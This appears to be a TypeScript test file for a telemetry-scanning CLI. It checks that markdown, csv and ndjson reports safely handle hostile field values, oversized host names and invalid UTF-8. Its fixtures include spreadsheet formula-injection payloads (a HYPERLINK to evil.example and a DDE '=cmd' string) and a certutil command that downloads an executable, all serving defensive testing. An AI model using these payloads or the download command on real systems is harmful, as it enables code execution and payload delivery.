import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import zlib from 'node:zlib';
import { parseNdjson, runCli } from '../helpers/run-cli.js';
import { certutilPair, GOOD, ndjson, tmpDir } from '../helpers/telemetry.js';

/**
 * Issue #22 item 14: reports and evidence over hostile values. Each run scans a good file
 * beside the hostile one, and the good file's alert must come out as well.
 */
/** A certutil pair whose process start carries `fields` (host name, command line…). */
function hostilePair(entity: string, patch: (doc: Record<string, any>) => void): string {
  const docs = certutilPair(entity, '2024-05-14T09:00:00Z', '2024-05-14T09:00:01Z') as Record<string, any>[];
  docs.forEach(patch);
  return ndjson(docs);
}

function files(hostile: string | Buffer, name = 'hostile.ndjson'): { good: string; bad: string } {
  const dir = tmpDir();
  const good = path.join(dir, 'good.ndjson');
  const bad = path.join(dir, name);
  fs.writeFileSync(good, GOOD);
  fs.writeFileSync(bad, hostile);
  return { good, bad };
}

test('issue-22 #14: markdown cells leave no bare URL, www. or e-mail address for GFM to link', async () => {
  const links = 'see http://evil.example/x, HTTPS://evil.example, www.evil.example, ftp://e.example and admin@evil.example';
  const { good, bad } = files(hostilePair('mail@evil.example', (d) => {
    d.host.name = `WS01 ${links}`;
    d.process.name = 'certutil.exe';
    d.user = { name: 'user@corp.example' };
  }));
  const run = await runCli(['scan', '--format', 'markdown', good, bad]);
  assert.equal(run.code, 1, run.stderr);
  assert.match(run.stdout, /\| WS01 \| certutil\.exe \(4242\) \| [^|]*good\.ndjson:1 \|/, "the good file's alert is listed");
  assert.match(run.stdout, /WS01 see http\\:\/\/evil\.example\/x, HTTPS\\:\/\/evil\.example, www\\\.evil\.example, ftp\\:\/\/e\.example and admin`@`evil\.example/);
  // What cmark-gfm's autolink extension would take up (checked against it: docs/decisions.md).
  assert.doesNotMatch(run.stdout, /(?<!\\):\/\/|www\.|[\w.+-]@[\w-]/i);
});

test('issue-22 #14: no csv field a spreadsheet may read starts a formula, whatever the separator', async () => {
  const { good, bad } = files(hostilePair('csv-bad', (d) => {
    d.process.command_line = 'certutil.exe a;=HYPERLINK("http://evil.example","x"),-2+3\t@SUM(A1);  "=cmd|\' /c calc\'!A0"\n+1\r-1';
    d.host.name = ';=1+1';
  }));
  const run = await runCli(['scan', '--format', 'csv', good, bad]);
  assert.equal(run.code, 1, run.stderr);
  assert.match(run.stdout, /,WS01,,certutil\.exe \(4242\),certutil\.exe -urlcache -f http:\/\/203\.0\.113\.9\/a\.exe a\.exe,8\.8\.4\.4:80,[^,]*good\.ndjson,1,2,\{good\},\r\n/, "the good file's alert is a row");
  assert.match(run.stdout, /"certutil\.exe a;'=HYPERLINK\(""http:\/\/evil\.example"",""x""\),'-2\+3\t'@SUM\(A1\);'  ""=cmd\|' \/c calc'!A0""\n'\+1\r'-1"/);
  // Every field as a reader with any of these separators sees it, quotes not honoured mid-line.
  for (const separator of [',', ';', '\t']) {
    for (const line of run.stdout.split(/\r\n|\r|\n/)) {
      for (const field of line.split(separator)) {
        assert.doesNotMatch(field, /^[\s"]*[=+\-@]/, `${JSON.stringify(separator)} reader: ${JSON.stringify(field)}`);
      }
    }
  }
});

test('issue-22 #14: the summary and the markdown report clip a 5 MB host name and a long file name with a marker', async () => {
  const host = 'H'.repeat(5 * 1024 * 1024);
  const { good, bad } = files(hostilePair('long-host', (d) => { d.host.name = host; }), `${'f'.repeat(240)}.ndjson`);
  const run = await runCli(['scan', '--format', 'ndjson', '--verbose', good, bad]);
  assert.equal(run.code, 1, run.stderr.slice(0, 2000));
  assert.ok(parseNdjson(run.stdout).some((a) => (a.join_keys as string[])[0] === '{good}'), "the good file's alert is there");
  assert.ok(run.stderr.length < 20_000, `stderr is ${run.stderr.length} characters`);
  assert.match(run.stderr, /^hosts +2: H{200}… \(\+5242680 chars\) 2, WS01 2$/m);
  assert.match(run.stderr, /^ {2}[^\n]*f{100,}… \(\+\d+ chars\): 2 events/m, 'a long file name is clipped too');
  const markdown = await runCli(['scan', '--format', 'markdown', good, bad]);
  assert.equal(markdown.code, 1);
  assert.ok(markdown.stdout.length < 20_000, `the markdown report is ${markdown.stdout.length} characters`);
  assert.match(markdown.stdout, /\| H{200}… \(\+5242680 chars\) \|/);
  assert.match(markdown.stdout, /\| WS01 \| certutil\.exe \(4242\) \| [^|]*good\.ndjson:1 \|/, "the good file's alert is listed");
});

test('issue-22 #14: an event whose line is not valid UTF-8 says so; valid lines, U+FFFD included, are unchanged', async () => {
  const lines = hostilePair('bad-utf8', (d) => { d.host.name = 'WS-INVALID'; d.process.name = 'certutil.exe'; }).split('\n');
  const at = lines[0]!.indexOf('WS-INVALID');
  const broken = Buffer.concat([Buffer.from(lines[0]!.slice(0, at + 3)), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from(`${lines[0]!.slice(at + 'WS-INVALID'.length)}\n`)]);
  const replacement = `${lines[1]!.replace('"WS-INVALID"', '"WS-\uFFFD written"')}\n`;
  const text = Buffer.concat([broken, Buffer.from(replacement, 'utf8')]);
  const { good, bad } = files(text);
  const gz = `${bad}.gz`;
  fs.writeFileSync(gz, zlib.gzipSync(text));
  for (const [label, args, stdin] of [
    ['plain', [good, bad], undefined],
    ['gzip, two threads', ['--threads', '2', good, gz], undefined],
    ['stdin', ['-', good], text],
  ] as const) {
    const run = await runCli(['scan', '--format', 'ndjson', ...args], stdin === undefined ? {} : { stdin });
    assert.equal(run.code, 1, `${label}: ${run.stderr}`);
    const alerts = parseNdjson(run.stdout);
    const goodAlert = alerts.find((a) => (a.join_keys as string[])[0] === '{good}');
    assert.ok(goodAlert, `${label}: the good file's alert is there`);
    assert.ok(!run.stdout.split('\n')[alerts.indexOf(goodAlert)]!.includes('source_encoding'), `${label}: valid lines are not flagged`);
    const badAlert = alerts.find((a) => (a.join_keys as string[])[0] === 'bad-utf8') as { events: Record<string, unknown>[] } | undefined;
    assert.ok(badAlert, `${label}: the invalid line's alert is there`);
    assert.equal(badAlert.events[0]!.source_encoding, 'invalid-utf8-replaced', label);
    assert.equal((badAlert.events[0]!.source as { host: { name: string } }).host.name, 'WS-\uFFFD\uFFFD\uFFFD', `${label}: each invalid byte is U+FFFD`);
    assert.equal(badAlert.events[1]!.source_encoding, undefined, `${label}: a U+FFFD written as UTF-8 is no invalid byte`);
    assert.match(run.stdout, /"source":\{[^\n]*\},"source_encoding":"invalid-utf8-replaced"\}/, `${label}: said right after source`);
  }
});
